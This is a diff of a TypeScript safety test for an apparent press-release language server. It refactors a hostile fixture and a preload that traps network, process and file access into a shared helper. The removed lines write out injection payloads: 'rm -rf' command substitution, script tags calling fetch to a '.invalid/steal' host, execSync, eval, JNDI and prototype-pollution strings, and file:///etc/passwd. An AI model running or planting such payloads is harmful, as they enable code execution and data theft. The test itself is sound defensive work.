@@ -3,71 +3,23 @@
 // process and eval entry point, and file access to the paths the hostile document links to;
 // it then serves a hostile release through every feature. No trap may fire.
 import { strict as assert } from "node:assert";
-import { mkdtempSync, readFileSync, rmSync, writeFileSync, existsSync } from "node:fs";
-import { tmpdir } from "node:os";
-import * as path from "node:path";
+import { readFileSync, existsSync } from "node:fs";
 import type { Diagnostic, DocumentLink } from "vscode-languageserver-protocol";
 import { TestClient } from "./client";
-
-const MARK = "pra-safety-marker";
-const HOSTILE = [
-  "FOR IMMEDIATE RELEASE",
-  `Acme Launches $(rm -rf /tmp/${MARK}) and \`touch /tmp/${MARK}\` Today`,
-  `NEW YORK, Feb. 6, 2026 /PRNewswire/ -- Acme Corp today announced <script>fetch("https://${MARK}.invalid/steal")</script> a product.`,
-  `"It is the best ever," said Jane Doe, CEO. <img src=x onerror="fetch('http://${MARK}.invalid')"> {{constructor.constructor('return process')().exit(1)}} \${process.exit(1)}`,
-  `According to https://${MARK}.invalid/report, file:///tmp/${MARK}/secret.txt and file:///etc/passwd, the market will reach $50 billion by 2030.`,
-  `Experts say require('child_process').execSync('touch /tmp/${MARK}') and eval("process.exit(2)") are common.`,
-  `Visit <https://${MARK}.invalid/a>, [our site](http://${MARK}.invalid/b), ![logo](ftp://${MARK}.invalid/c.png), javascript:alert(1), \${jndi:ldap://${MARK}.invalid/a}`,
-  `{"__proto__": {"polluted": true}} \\\\${MARK}\\share smb://${MARK}.invalid/x press@${MARK}.invalid`,
-  "About Acme",
-  `Acme is a company. Learn more at https://${MARK}.invalid and ./${MARK}/local.txt`,
-  "SOURCE Acme Corp",
-].join("\n\n");
-
-/** A preload for the server: traps network, process and eval entry points, and file access to the marker. */
-const TRAP = String.raw`
-const fs = require("fs");
-const log = process.env.PRA_TRAP_LOG;
-const append = fs.appendFileSync.bind(fs);
-const record = (name, detail) => { try { append(log, name + " " + String(detail ?? "").slice(0, 200) + "\n"); } catch {} };
-const trap = (obj, key, name) => {
-  const old = obj[key];
-  if (typeof old !== "function") return;
-  try { Object.defineProperty(obj, key, { configurable: true, writable: true, value: function (...a) { record(name, a[0] && (a[0].href || a[0].host || a[0])); throw new Error("blocked: " + name); } }); } catch {}
-};
-const watchPath = (obj, key, name) => {
-  const old = obj[key];
-  if (typeof old !== "function") return;
-  try { Object.defineProperty(obj, key, { configurable: true, writable: true, value: function (p, ...rest) { if (String(p && (p.href || p)).includes("${MARK}") || String(p).includes("/etc/passwd")) { record(name, p); throw new Error("blocked: " + name); } return old.call(this, p, ...rest); } }); } catch {}
-};
-for (const [m, keys] of [["net", ["connect", "createConnection"]], ["tls", ["connect"]], ["http", ["request", "get"]], ["https", ["request", "get"]], ["http2", ["connect"]],
-  ["dns", ["lookup", "resolve", "resolve4", "resolve6", "resolveAny"]], ["dgram", ["createSocket"]],
-  ["child_process", ["spawn", "spawnSync", "exec", "execSync", "execFile", "execFileSync", "fork"]], ["vm", ["runInThisContext", "runInNewContext", "runInContext", "compileFunction"]]]) {
-  const mod = require(m);
-  for (const k of keys) trap(mod, k, m + "." + k);
-}
-for (const k of ["fetch", "WebSocket", "eval"]) trap(globalThis, k, "globalThis." + k);
-for (const k of ["readFile", "readFileSync", "open", "openSync", "createReadStream", "stat", "statSync", "lstat", "lstatSync", "existsSync", "readdir", "readdirSync", "readlink", "realpath", "access", "accessSync"]) watchPath(fs, k, "fs." + k);
-for (const k of ["readFile", "open", "stat", "lstat", "readdir", "access", "realpath"]) watchPath(fs.promises, k, "fs.promises." + k);
-// Each thread records itself: the analysis worker loads this preload too.
-record("armed", process.pid + " thread " + require("worker_threads").threadId);
-`;
+import { HOSTILE, MARK, TrapPreload } from "../helpers/safetyTrap";
 
 describe("protocol robustness: safety (the server follows no link and runs nothing)", function () {
   this.timeout(60000);
-  let dir: string;
+  let traps: TrapPreload;
   let log: string;
   let c: TestClient;
   const saved = { NODE_OPTIONS: process.env.NODE_OPTIONS, PRA_TRAP_LOG: process.env.PRA_TRAP_LOG };
 
   before(async () => {
-    dir = mkdtempSync(path.join(tmpdir(), "pra-safety-"));
-    log = path.join(dir, "trap.log");
-    const preload = path.join(dir, "trap.cjs");
-    writeFileSync(preload, TRAP);
-    writeFileSync(log, "");
-    process.env.NODE_OPTIONS = `${saved.NODE_OPTIONS ?? ""} --require ${preload}`.trim();
-    process.env.PRA_TRAP_LOG = log;
+    traps = new TrapPreload();
+    log = traps.log;
+    // The test client starts the server with this process's environment.
+    Object.assign(process.env, traps.env(saved));
     try {
       c = await TestClient.start({ settings: { debounceMs: 0, enable: "always" } });
     } finally {
@@ -77,10 +29,10 @@ describe("protocol robustness: safety (the server follows no link and runs nothi
   });
   after(async () => {
     await c?.stop();
-    rmSync(dir, { recursive: true, force: true });
+    traps.remove();
   });
 
-  const trapped = () => readFileSync(log, "utf8").split("\n").filter((l) => l && !l.startsWith("armed"));
+  const trapped = () => traps.trapped();
 
   it("the traps are armed in the server process", () => {
     assert.match(readFileSync(log, "utf8"), /^armed \d+/m);
